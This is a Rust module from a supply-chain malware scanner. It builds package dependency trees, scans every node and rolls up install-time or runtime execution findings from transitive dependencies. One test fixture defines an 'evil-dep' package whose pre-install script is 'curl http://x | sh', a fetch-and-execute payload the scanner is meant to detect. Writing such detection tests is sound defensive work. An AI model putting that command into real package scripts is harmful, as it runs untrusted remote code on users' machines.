//! Dependency-tree construction and whole-tree scanning.
//!
//! Trees are built breadth-first from lockfile edges when available, else
//! from declared dependencies, resolving nodes through a pluggable local
//! store. Findings from transitive nodes are annotated with their depth:
//! code hidden deep in the tree is the classic place to bury a payload.

use crate::config::ScanConfig;
use crate::ingest::{self, PackageSnapshot};
use crate::manifest::{self, lockfile, DependencyEdge, EdgeKind};
use crate::model::{
    Confidence, Ecosystem, Finding, FindingLocation, PackageCoordinates, TechniqueId,
};
use std::collections::{BTreeMap, VecDeque};
use std::path::{Path, PathBuf};

/// Resolves coordinates to snapshots; `None` marks the node unresolved.
pub trait Resolver {
    fn resolve(&self, coords: &PackageCoordinates) -> Option<PackageSnapshot>;
}

/// Local package store laid out as `<ecosystem>/<name>/<version>/` with each
/// package's extracted contents; the default offline resolver.
pub struct DirStoreResolver<'a> {
    pub root: PathBuf,
    pub config: &'a ScanConfig,
}

impl<'a> DirStoreResolver<'a> {
    pub fn new(root: impl Into<PathBuf>, config: &'a ScanConfig) -> Self {
        DirStoreResolver {
            root: root.into(),
            config,
        }
    }
}

impl Resolver for DirStoreResolver<'_> {
    fn resolve(&self, coords: &PackageCoordinates) -> Option<PackageSnapshot> {
        // Package names may contain `/` (scoped npm, go modules); those map
        // onto nested directories.
        let dir = self
            .root
            .join(coords.ecosystem.name())
            .join(&coords.name)
            .join(&coords.version);
        if !dir.is_dir() {
            return None;
        }
        let mut snapshot = ingest::open_dir(&dir, self.config).ok()?;
        snapshot.facts = manifest::extract_facts(&snapshot);
        snapshot.coords = coords.clone();
        Some(snapshot)
    }
}

/// A resolver with no packages; every dependency stays unresolved.
pub struct NullResolver;

impl Resolver for NullResolver {
    fn resolve(&self, _coords: &PackageCoordinates) -> Option<PackageSnapshot> {
        None
    }
}

#[derive(Debug)]
pub enum Node {
    Resolved(Box<PackageSnapshot>),
    Unresolved { reason: String },
}

/// The dependency tree: nodes keyed by coordinates, edges, and minimum hop
/// counts from the root.
pub struct DependencyTree {
    pub root: PackageCoordinates,
    pub nodes: BTreeMap<PackageCoordinates, Node>,
    pub edges: Vec<DependencyEdge>,
    pub depth: BTreeMap<PackageCoordinates, u32>,
    pub notes: Vec<String>,
}

/// Lockfile name for the ecosystem, when one is supported.
fn lockfile_name(eco: Ecosystem) -> Option<&'static str> {
    match eco {
        Ecosystem::Npm => Some("package-lock.json"),
        Ecosystem::Composer => Some("composer.lock"),
        Ecosystem::RubyGems => Some("Gemfile.lock"),
        Ecosystem::Cargo => Some("Cargo.lock"),
        Ecosystem::Go => Some("go.sum"),
        Ecosystem::PyPI => Some("requirements.txt"),
        Ecosystem::Maven => None,
    }
}

/// Build the tree via BFS: lockfile edges when present, declared
/// dependencies otherwise. Cycles close without revisiting; resolution
/// failures become unresolved markers, never errors.
pub fn build_tree(root: PackageSnapshot, resolver: &dyn Resolver) -> DependencyTree {
    let eco = root.coords.ecosystem;
    let root_coords = root.coords.clone();
    let mut notes = Vec::new();

    // Edges from the root's lockfile, re-rooted onto the real coordinates.
    let mut edges: Vec<DependencyEdge> = Vec::new();
    let mut lock_edges = false;
    if let Some(name) = lockfile_name(eco) {
        if let Some(bytes) = root.file(name) {
            match lockfile::parse_lockfile(eco, bytes) {
                Ok(parse) => {
                    lock_edges = true;
                    notes.extend(parse.notes);
                    for mut edge in parse.edges {
                        if edge.from.name.is_empty() || edge.from == root_coords {
                            edge.from = root_coords.clone();
                            edge.kind = EdgeKind::Direct;
                        }
                        if edge.to == root_coords || edge.from == edge.to {
                            continue;
                        }
                        edges.push(edge);
                    }
                }
                Err(e) => notes.push(format!("{name}: {e}")),
            }
        }
    }
    if !lock_edges {
        for dep in &root.facts.declared_dependencies {
            let to = PackageCoordinates::new(eco, dep.name.clone(), constraint_version(&dep.constraint));
            if to != root_coords {
                edges.push(DependencyEdge {
                    from: root_coords.clone(),
                    to,
                    kind: EdgeKind::Direct,
                });
            }
        }
    }

    let mut nodes: BTreeMap<PackageCoordinates, Node> = BTreeMap::new();
    let mut depth: BTreeMap<PackageCoordinates, u32> = BTreeMap::new();
    depth.insert(root_coords.clone(), 0);
    nodes.insert(root_coords.clone(), Node::Resolved(Box::new(root)));

    let mut queue: VecDeque<PackageCoordinates> = VecDeque::new();
    queue.push_back(root_coords.clone());

    while let Some(current) = queue.pop_front() {
        let current_depth = depth[&current];
        let children: Vec<PackageCoordinates> = edges
            .iter()
            .filter(|e| e.from == current)
            .map(|e| e.to.clone())
            .collect();
        for child in children {
            if depth.contains_key(&child) {
                continue; // cycle or diamond: keep the minimum depth
            }
            depth.insert(child.clone(), current_depth + 1);
            let node = match resolver.resolve(&child) {
                Some(mut snapshot) => {
                    // Without lockfile edges, expand the child's declared
                    // dependencies breadth-first.
                    if !lock_edges {
                        for dep in &snapshot.facts.declared_dependencies {
                            let to = PackageCoordinates::new(
                                eco,
                                dep.name.clone(),
                                constraint_version(&dep.constraint),
                            );
                            if to != child
                                && !edges.iter().any(|e| e.from == child && e.to == to)
                            {
                                edges.push(DependencyEdge {
                                    from: child.clone(),
                                    to,
                                    kind: EdgeKind::Transitive,
                                });
                            }
                        }
                    }
                    snapshot.coords = child.clone();
                    Node::Resolved(Box::new(snapshot))
                }
                None => Node::Unresolved {
                    reason: "not present in the package store".into(),
                },
            };
            nodes.insert(child.clone(), node);
            queue.push_back(child);
        }
    }

    DependencyTree {
        root: root_coords,
        nodes,
        edges,
        depth,
        notes,
    }
}

/// Exact versions only: constraint strings like `^1.2.3` resolve to nothing
/// without a lockfile, so the store lookup uses the raw constraint when it
/// looks like a plain version.
fn constraint_version(constraint: &str) -> String {
    let trimmed = constraint.trim();
    if trimmed
        .chars()
        .next()
        .is_some_and(|c| c.is_ascii_digit())
    {
        trimmed.to_string()
    } else if let Some(rest) = trimmed.strip_prefix(['^', '~', '=']) {
        rest.trim_start_matches('=').trim().to_string()
    } else {
        trimmed.to_string()
    }
}

/// Scan every resolved node and aggregate. Findings carry their package
/// coordinates and depth; any code-execution finding at depth >= 1 attaches
/// an EV-ST-DEPTREE roll-up whose strength grows with depth.
pub fn scan_tree(tree: &DependencyTree, config: &ScanConfig) -> TreeScan {
    let mut entries: Vec<(&PackageCoordinates, &PackageSnapshot)> = tree
        .nodes
        .iter()
        .filter_map(|(coords, node)| match node {
            Node::Resolved(snapshot) => Some((coords, snapshot.as_ref())),
            Node::Unresolved { .. } => None,
        })
        .collect();
    entries.sort_by_key(|(coords, _)| (*coords).clone());

    let scan_one = |(coords, snapshot): &(&PackageCoordinates, &PackageSnapshot)| {
        let outcome = crate::scan::scan_snapshot(snapshot, config);
        let node_depth = tree.depth.get(coords).copied().unwrap_or(0);
        let mut findings = outcome.findings;
        for f in &mut findings {
            f.package = Some((*coords).clone());
            f.depth = Some(node_depth);
        }
        (findings, outcome.notes)
    };

    let results: Vec<(Vec<Finding>, Vec<String>)> = if config.parallel {
        use rayon::prelude::*;
        entries.par_iter().map(scan_one).collect()
    } else {
        entries.iter().map(scan_one).collect()
    };

    let mut findings: Vec<Finding> = Vec::new();
    let mut notes: Vec<String> = tree.notes.clone();
    for (coords, _) in &entries {
        if let Node::Unresolved { reason } = &tree.nodes[coords] {
            notes.push(format!("{coords}: unresolved ({reason})"));
        }
    }
    for (node_findings, node_notes) in results {
        findings.extend(node_findings);
        notes.extend(node_notes);
    }
    for (coords, node) in &tree.nodes {
        if let Node::Unresolved { reason } = node {
            notes.push(format!("{coords}: unresolved ({reason})"));
        }
    }
    notes.sort();
    notes.dedup();

    // Roll-up: execution techniques found below the root.
    let deep: Vec<&Finding> = findings
        .iter()
        .filter(|f| {
            (f.id.is_install_time() || f.id.is_runtime()) && f.depth.is_some_and(|d| d >= 1)
        })
        .collect();
    let rollup = if deep.is_empty() {
        None
    } else {
        let max_depth = deep.iter().filter_map(|f| f.depth).max().unwrap_or(1);
        let worst = deep
            .iter()
            .max_by_key(|f| f.depth.unwrap_or(0))
            .expect("non-empty");
        let confidence = if max_depth >= 2 {
            Confidence::Moderate
        } else {
            Confidence::Weak
        };
        let mut f = Finding::new(
            TechniqueId::EvStDeptree,
            FindingLocation::manifest_key("dependency-tree", "depth"),
            "",
        )
        .with_confidence(confidence)
        .with_context(format!(
            "{} code-execution finding(s) in transitive dependencies, deepest at depth {max_depth} ({})",
            deep.len(),
            worst
                .package
                .as_ref()
                .map(|c| c.to_string())
                .unwrap_or_default()
        ));
        f.depth = Some(max_depth);
        Some(f)
    };
    if let Some(rollup) = rollup {
        findings.push(rollup);
    }

    crate::model::sort_findings(&mut findings);
    TreeScan { findings, notes }
}

pub struct TreeScan {
    pub findings: Vec<Finding>,
    pub notes: Vec<String>,
}

/// Write one extracted package into a `<ecosystem>/<name>/<version>/` store
/// (test and fixture helper).
pub fn store_package(
    store: &Path,
    coords: &PackageCoordinates,
    files: &[(&str, &str)],
) -> std::io::Result<()> {
    let dir = store
        .join(coords.ecosystem.name())
        .join(&coords.name)
        .join(&coords.version);
    for (rel, content) in files {
        let path = dir.join(rel);
        if let Some(parent) = path.parent() {
            std::fs::create_dir_all(parent)?;
        }
        std::fs::write(path, content)?;
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::ingest::FileContent;

    fn snapshot_with_lock(files: &[(&str, &str)]) -> PackageSnapshot {
        let mut map = BTreeMap::new();
        for (path, content) in files {
            map.insert(
                path.to_string(),
                FileContent::Loaded(content.as_bytes().to_vec()),
            );
        }
        let (eco, marker, _) =
            ingest::detect_ecosystem(map.keys().map(|s| s.as_str())).unwrap();
        let root_prefix = match marker.rsplit_once('/') {
            Some((dir, _)) => format!("{dir}/"),
            None => String::new(),
        };
        let mut snap = PackageSnapshot {
            coords: PackageCoordinates::new(eco, "root-pkg", "1.0.0"),
            files: map,
            facts: Default::default(),
            root_prefix,
            notes: Vec::new(),
            source_format: None,
        };
        snap.facts = manifest::extract_facts(&snap);
        snap
    }

    // Hand-built chain: root -> a -> b -> c. Depths enumerated by hand:
    // a=1, b=2, c=3.
    const CHAIN_LOCK: &str = r#"{
        "lockfileVersion": 3,
        "packages": {
            "": {"dependencies": {"a": "^1.0.0"}},
            "node_modules/a": {"version": "1.0.0", "dependencies": {"b": "^1.0.0"}},
            "node_modules/b": {"version": "1.0.0", "dependencies": {"c": "^1.0.0"}},
            "node_modules/c": {"version": "1.0.0"}
        }
    }"#;

    #[test]
    fn lockfile_chain_depths() {
        let root = snapshot_with_lock(&[
            ("package.json", r#"{"name":"root-pkg","version":"1.0.0"}"#),
            ("package-lock.json", CHAIN_LOCK),
        ]);
        let tree = build_tree(root, &NullResolver);
        assert_eq!(tree.nodes.len(), 4);
        let depth_of = |name: &str| {
            tree.depth
                .iter()
                .find(|(c, _)| c.name == name)
                .map(|(_, d)| *d)
                .unwrap()
        };
        assert_eq!(depth_of("root-pkg"), 0);
        assert_eq!(depth_of("a"), 1);
        assert_eq!(depth_of("b"), 2);
        assert_eq!(depth_of("c"), 3);
    }

    #[test]
    fn no_dependencies_single_node() {
        let root = snapshot_with_lock(&[(
            "package.json",
            r#"{"name":"root-pkg","version":"1.0.0"}"#,
        )]);
        let tree = build_tree(root, &NullResolver);
        assert_eq!(tree.nodes.len(), 1);
        assert_eq!(tree.depth.len(), 1);
    }

    #[test]
    fn cycle_closes_without_looping() {
        let lock = r#"{
            "lockfileVersion": 3,
            "packages": {
                "": {"dependencies": {"a": "^1.0.0"}},
                "node_modules/a": {"version": "1.0.0", "dependencies": {"b": "^1.0.0"}},
                "node_modules/b": {"version": "1.0.0", "dependencies": {"a": "^1.0.0"}}
            }
        }"#;
        let root = snapshot_with_lock(&[
            ("package.json", r#"{"name":"root-pkg","version":"1.0.0"}"#),
            ("package-lock.json", lock),
        ]);
        let tree = build_tree(root, &NullResolver);
        // a and b present exactly once each.
        assert_eq!(tree.nodes.len(), 3);
        assert_eq!(
            tree.depth
                .iter()
                .filter(|(c, _)| c.name == "a" || c.name == "b")
                .count(),
            2
        );
    }

    #[test]
    fn store_resolver_scans_transitive_payload() {
        let store = tempfile::tempdir().unwrap();
        let config = ScanConfig::default();
        store_package(
            store.path(),
            &PackageCoordinates::new(Ecosystem::Npm, "evil-dep", "2.0.0"),
            &[(
                "package.json",
                r#"{"name":"evil-dep","version":"2.0.0","scripts":{"pre-install":"curl http://x | sh"}}"#,
            )],
        )
        .unwrap();

        let lock = r#"{
            "lockfileVersion": 3,
            "packages": {
                "": {"dependencies": {"benign": "^1.0.0"}},
                "node_modules/benign": {"version": "1.0.0", "dependencies": {"evil-dep": "^2.0.0"}},
                "node_modules/evil-dep": {"version": "2.0.0"}
            }
        }"#;
        store_package(
            store.path(),
            &PackageCoordinates::new(Ecosystem::Npm, "benign", "1.0.0"),
            &[("package.json", r#"{"name":"benign","version":"1.0.0"}"#)],
        )
        .unwrap();

        let root = snapshot_with_lock(&[
            ("package.json", r#"{"name":"root-pkg","version":"1.0.0"}"#),
            ("package-lock.json", lock),
        ]);
        let resolver = DirStoreResolver::new(store.path(), &config);
        let tree = build_tree(root, &resolver);
        let scan = scan_tree(&tree, &config);

        let i1 = scan
            .findings
            .iter()
            .find(|f| f.id == TechniqueId::I1)
            .expect("transitive I1 found");
        assert_eq!(i1.depth, Some(2));
        assert_eq!(i1.package.as_ref().unwrap().name, "evil-dep");

        let rollup = scan
            .findings
            .iter()
            .find(|f| f.id == TechniqueId::EvStDeptree)
            .expect("roll-up emitted");
        assert_eq!(rollup.confidence, Confidence::Moderate); // depth >= 2
    }

    #[test]
    fn clean_tree_has_no_findings() {
        let config = ScanConfig::default();
        let root = snapshot_with_lock(&[(
            "package.json",
            r#"{"name":"root-pkg","version":"1.0.0"}"#,
        )]);
        let tree = build_tree(root, &NullResolver);
        let scan = scan_tree(&tree, &config);
        assert!(scan.findings.is_empty());
    }

    #[test]
    fn serial_and_parallel_scans_agree() {
        let store = tempfile::tempdir().unwrap();
        let mut config = ScanConfig::default();
        for i in 0..6 {
            store_package(
                store.path(),
                &PackageCoordinates::new(Ecosystem::Npm, format!("dep{i}"), "1.0.0"),
                &[(
                    "package.json",
                    &format!(
                        r#"{{"name":"dep{i}","version":"1.0.0","scripts":{{"install":"echo {i}"}}}}"#
                    ),
                )],
            )
            .unwrap();
        }
        let direct: Vec<String> = (0..6).map(|i| format!("\"dep{i}\": \"1.0.0\"")).collect();
        let entries: Vec<String> = (0..6)
            .map(|i| format!("\"node_modules/dep{i}\": {{\"version\": \"1.0.0\"}}"))
            .collect();
        let lock = format!(
            r#"{{"lockfileVersion": 3, "packages": {{"": {{"dependencies": {{{}}}}}, {}}}}}"#,
            direct.join(", "),
            entries.join(", ")
        );
        let build = |parallel: bool, config: &mut ScanConfig| {
            config.parallel = parallel;
            let root = snapshot_with_lock(&[
                ("package.json", r#"{"name":"root-pkg","version":"1.0.0"}"#),
                ("package-lock.json", &lock),
            ]);
            let resolver = DirStoreResolver::new(store.path(), config);
            let tree = build_tree(root, &resolver);
            scan_tree(&tree, config).findings
        };
        let serial = build(false, &mut config);
        let parallel = build(true, &mut config);
        assert_eq!(serial, parallel);
        assert!(!serial.is_empty());
    }

    #[test]
    fn tree_scan_is_union_of_independent_node_scans() {
        let store = tempfile::tempdir().unwrap();
        let config = ScanConfig::default();
        store_package(
            store.path(),
            &PackageCoordinates::new(Ecosystem::Npm, "dep-a", "1.0.0"),
            &[(
                "package.json",
                r#"{"name":"dep-a","version":"1.0.0","scripts":{"install":"echo a"}}"#,
            )],
        )
        .unwrap();
        let lock = r#"{"lockfileVersion":3,"packages":{"":{"dependencies":{"dep-a":"1.0.0"}},"node_modules/dep-a":{"version":"1.0.0"}}}"#;
        let root = snapshot_with_lock(&[
            (
                "package.json",
                r#"{"name":"root-pkg","version":"1.0.0","scripts":{"pre-install":"echo r"}}"#,
            ),
            ("package-lock.json", lock),
        ]);
        let resolver = DirStoreResolver::new(store.path(), &config);
        let tree = build_tree(root, &resolver);
        let combined = scan_tree(&tree, &config);

        // Independent scans of each resolved node, stripped of tree-only
        // annotations and the roll-up, must equal the tree scan.
        let mut expected: Vec<crate::model::Finding> = Vec::new();
        for node in tree.nodes.values() {
            if let Node::Resolved(snapshot) = node {
                expected.extend(crate::scan::scan_snapshot(snapshot, &config).findings);
            }
        }
        let mut actual: Vec<crate::model::Finding> = combined
            .findings
            .iter()
            .filter(|f| f.id != TechniqueId::EvStDeptree)
            .cloned()
            .map(|mut f| {
                f.package = None;
                f.depth = None;
                f
            })
            .collect();
        crate::model::sort_findings(&mut actual);
        crate::model::sort_findings(&mut expected);
        assert_eq!(actual, expected);
    }

    #[test]
    fn adding_unrelated_node_keeps_existing_findings() {
        let store = tempfile::tempdir().unwrap();
        let config = ScanConfig::default();
        store_package(
            store.path(),
            &PackageCoordinates::new(Ecosystem::Npm, "hooked", "1.0.0"),
            &[(
                "package.json",
                r#"{"name":"hooked","version":"1.0.0","scripts":{"install":"echo x"}}"#,
            )],
        )
        .unwrap();
        let lock_small = r#"{"lockfileVersion":3,"packages":{"":{"dependencies":{"hooked":"1.0.0"}},"node_modules/hooked":{"version":"1.0.0"}}}"#;
        let lock_big = r#"{"lockfileVersion":3,"packages":{"":{"dependencies":{"hooked":"1.0.0","extra":"1.0.0"}},"node_modules/hooked":{"version":"1.0.0"},"node_modules/extra":{"version":"1.0.0"}}}"#;

        let scan_with = |lock: &str| {
            let root = snapshot_with_lock(&[
                ("package.json", r#"{"name":"root-pkg","version":"1.0.0"}"#),
                ("package-lock.json", lock),
            ]);
            let resolver = DirStoreResolver::new(store.path(), &config);
            let tree = build_tree(root, &resolver);
            scan_tree(&tree, &config)
                .findings
                .into_iter()
                .filter(|f| f.package.as_ref().is_some_and(|p| p.name == "hooked"))
                .collect::<Vec<_>>()
        };
        assert_eq!(scan_with(lock_small), scan_with(lock_big));
    }
}
